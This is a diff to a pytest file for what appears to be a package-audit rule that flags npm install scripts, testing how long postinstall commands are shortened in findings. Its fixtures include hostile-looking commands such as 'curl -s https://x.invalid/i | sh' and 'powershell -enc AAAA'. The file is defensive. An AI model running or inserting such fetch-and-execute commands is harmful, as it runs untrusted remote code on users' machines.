@@ -6,6 +6,7 @@ import pytest
 from support.subjects import declares, entry, found, package, subject, use
 
 from audit.model.contents import Source
+from audit.model.manifest import Manifest
 
 if TYPE_CHECKING:
     from audit.model.package import CapabilityUse
@@ -22,6 +23,10 @@ def scripted(
 
 
 GYP = use("script:gyp", "install", "binding.gyp:0:0")
+UNREADABLE: dict[str, Any] = {
+    "manifest": Manifest(problem="package.json is not valid JSON"),
+    "locked": entry("node_modules/a", hasInstallScript=True),
+}
 UNREAD: dict[str, Any] = {
     "source": Source.MISSING,
     "locked": entry("node_modules/a", hasInstallScript=True),
@@ -63,6 +68,7 @@ FIRING = [
     pytest.param(scripted("powershell -enc AAAA"), "high", id="encoded powershell"),
     pytest.param(subject(package("node_modules/a", GYP)), "moderate", id="gyp without a script"),
     pytest.param(subject(package("node_modules/a", **UNREAD)), "moderate", id="not to be had"),
+    pytest.param(subject(package("node_modules/a", **UNREADABLE)), "moderate", id="not to be read"),
 ]
 
 
@@ -81,3 +87,27 @@ def test_it_says_what_the_script_does() -> None:
 def test_credentials_in_a_command_are_masked() -> None:
     (finding,) = found(RULE, scripted("curl https://me:secret@x.invalid/"))
     assert "secret" not in finding.message
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("node setup.js", "node setup.js"),
+        (
+            f"node a.js {'--quiet ' * 20}&& curl -s https://x.invalid/i | sh",
+            "node a.js --quiet --quiet … curl -s https://x.invalid/i | sh",
+        ),
+        (
+            f"node a.js {'--quiet ' * 20}&& node the-last.js",
+            "node a.js --quiet --quiet … --quiet --quiet --quiet --quiet && node the-last.js",
+        ),
+        (
+            f"curl -s https://x.invalid/i | sh {'-s ' * 60}",
+            "curl -s https://x.invalid/i | sh -s -s -s -s -s -s -s -s -s -s -s -s -s -s -s -…",
+        ),
+    ],
+    ids=["short", "what downloads", "the end", "at its beginning"],
+)
+def test_of_a_long_command_the_part_that_tells_is_shown(command: str, shown: str) -> None:
+    (finding,) = found(RULE, scripted(command))
+    assert f'runs "{shown}" at postinstall' in finding.message
